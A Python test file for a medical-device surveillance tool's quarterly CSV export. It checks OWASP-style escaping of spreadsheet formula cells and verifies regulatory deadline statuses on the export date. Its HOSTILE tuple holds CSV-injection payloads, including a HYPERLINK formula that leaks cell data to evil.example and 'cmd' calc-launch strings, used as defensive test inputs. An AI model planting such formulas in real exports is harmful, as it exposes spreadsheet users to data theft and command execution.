"""Quarterly CSV exports: no cell a spreadsheet runs as a formula; regulatory status as of export.

The escape rule is OWASP's CSV-injection guidance: a cell that begins with `=`, `+`, `-`,
`@`, a tab or a carriage return gets a leading `'` so that spreadsheets show it as text.
The integration test stores hostile text where the export's CSV cells come from (an
adverse event's software version from the intake, an alert summary) and reads the CSV
back with Python's csv module. The regulatory-status oracle is numpy's business-day
arithmetic and the rule "overdue from the day after the due date", on the export's date.
"""

from __future__ import annotations

import asyncio
import csv
import json
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import numpy as np
import psycopg
import pytest
from hypothesis import given
from hypothesis import strategies as st

from surveillance.contracts import Alert
from surveillance.report.csv_cells import FORMULA_TRIGGERS, spreadsheet_safe
from surveillance.report.quarterly import export_quarterly
from surveillance.store.batch import write_batch
from surveillance.store.event_queries import record_filing
from surveillance.store.migrate import migrate
from surveillance.store.rows import Decoder, Rows
from tests.store_fixtures import make_adverse_events, make_cases

TOOL = "ich-triage"
Q3 = date(2026, 7, 1)
# OWASP's examples and their variants, each meant to run in a spreadsheet.
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def test_owasp_examples_are_escaped_and_plain_values_are_not() -> None:
    for value in HOSTILE:
        assert spreadsheet_safe(value) == "'" + value
    for value in ("1.1", "site-a", "it's fine", "a=b", "", "2026-07-03T00:00:00+00:00"):
        assert spreadsheet_safe(value) == value
    # Numbers are written as numbers: a negative value stays a number, not text.
    assert spreadsheet_safe(-0.25) == -0.25
    assert spreadsheet_safe(-3) == -3


@given(st.text())
def test_no_escaped_cell_starts_a_formula_and_the_text_is_kept(value: str) -> None:
    safe = spreadsheet_safe(value)
    assert isinstance(safe, str)
    assert not safe.startswith(tuple(FORMULA_TRIGGERS))
    assert safe == value or (safe == "'" + value and value[:1] in FORMULA_TRIGGERS)


def _store(url: str, aware: date) -> list[Any]:
    """Cases for the quarter, one hostile alert, and two reports aware late in the quarter."""
    cases = make_cases(41, 200, TOOL, Q3, 92)
    events = make_adverse_events(TOOL, Q3)[:2]  # death, hospitalization
    late = [
        e.model_copy(
            update={
                "event_id": f"late-{i}",
                "aware_date": aware,
                "received_at": datetime(aware.year, aware.month, aware.day, 9, tzinfo=UTC),
                "event": e.event.model_copy(update={"event_date": aware - timedelta(days=1)}),
                "device": e.device.model_copy(update={"software_version": HOSTILE[i]}),
            }
        )
        for i, e in enumerate(events)
    ]
    alert = Alert(
        alert_id="formula-1",
        kind="output_drift",
        severity="warning",
        raised_at=datetime(2026, 8, 3, tzinfo=UTC),
        tool_id=TOOL,
        metric="ai_result",
        summary=HOSTILE[3],
    )
    messages = [("c", c) for c in cases] + [("a", alert)] + [("ae", e) for e in late]

    async def write() -> None:
        decoder = Decoder("c", "a", "s", "ae")
        rows = Rows.empty()
        for offset, (topic, event) in enumerate(messages):
            decoder.add(rows, topic, 0, offset, event.model_dump_json().encode())
        assert rows.rejects == []
        async with await psycopg.AsyncConnection.connect(url) as conn:
            await write_batch(conn, rows)

    asyncio.run(write())
    return late


def _rows(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


@pytest.mark.integration
def test_csv_cells_escaped_and_overdue_decided_on_the_export_date(
    fresh_database: str, tmp_path: Path
) -> None:
    migrate(fresh_database)
    aware = date(2026, 9, 21)  # a Monday, 9 days before the quarter ends
    late = _store(fresh_database, aware)
    # Ten US work days (no Federal holiday in between): due Monday 2026-10-05.
    us_due = np.busday_offset(np.datetime64(aware), 10, roll="backward").astype(object)
    assert us_due == date(2026, 10, 5)
    filed_at = datetime(2026, 10, 2, 15, tzinfo=UTC)  # after the quarter, before the export
    with psycopg.connect(fresh_database) as conn:
        record_filing(conn, "late-0", "us_803:fda", filed_at)

    export_day = datetime(2026, 11, 2, 9, tzinfo=UTC)
    (done,) = export_quarterly(fresh_database, "2026Q3", TOOL, tmp_path / "nov", as_of=export_day)
    review = json.loads(done.json.read_text())
    assert review["status_as_of"] == "2026-11-02"
    assert review["period"] == {"start": "2026-07-01", "end": "2026-09-30"}
    statuses = {
        (e["event_id"], o["obligation"]): (o["due"], o["status"])
        for e in review["adverse_events"]
        for o in e["regulatory"]
    }
    # As of 2026-11-02 both reports' US deadlines (10-05) have passed: overdue unless filed.
    assert statuses[("late-0", "us_803:fda")] == (us_due.isoformat(), "done")
    assert statuses[("late-0", "us_803:manufacturer")] == (us_due.isoformat(), "overdue")
    assert statuses[("late-1", "us_803:manufacturer")] == (us_due.isoformat(), "overdue")

    rows = _rows(done.csv_dir / "adverse_events.csv")
    by_key = {(r["event_id"], r["obligation"]): r for r in rows}
    assert by_key[("late-1", "us_803:manufacturer")]["status"] == "overdue"
    assert {r["event_id"]: r["software_version"] for r in rows} == {
        "late-0": "'" + HOSTILE[0],
        "late-1": "'" + HOSTILE[1],
    }
    summaries = [r["summary"] for r in _rows(done.csv_dir / "alerts.csv")]
    assert summaries == ["'" + HOSTILE[3]]
    for path in done.csv_dir.glob("*.csv"):
        with open(path, newline="", encoding="utf-8") as f:
            for row in csv.reader(f):
                for value in row:
                    if value.startswith(tuple(FORMULA_TRIGGERS)):
                        float(value)  # only a number (e.g. a negative kappa) may start so
    # The JSON keeps the values exactly as stored (it is data, not a spreadsheet).
    assert [e["software_version"] for e in review["adverse_events"]] == [
        e.device.software_version for e in late
    ]

    # Exported on the quarter's last day instead, nothing is overdue yet and the filing made
    # after that day is not counted.
    (early,) = export_quarterly(
        fresh_database,
        "2026Q3",
        TOOL,
        tmp_path / "sep",
        as_of=datetime(2026, 9, 30, 18, tzinfo=UTC),
    )
    early_review = json.loads(early.json.read_text())
    assert early_review["status_as_of"] == "2026-09-30"
    early_status = {
        (e["event_id"], o["obligation"]): o["status"]
        for e in early_review["adverse_events"]
        for o in e["regulatory"]
    }
    assert early_status[("late-0", "us_803:fda")] == "open"
    assert "overdue" not in early_status.values()
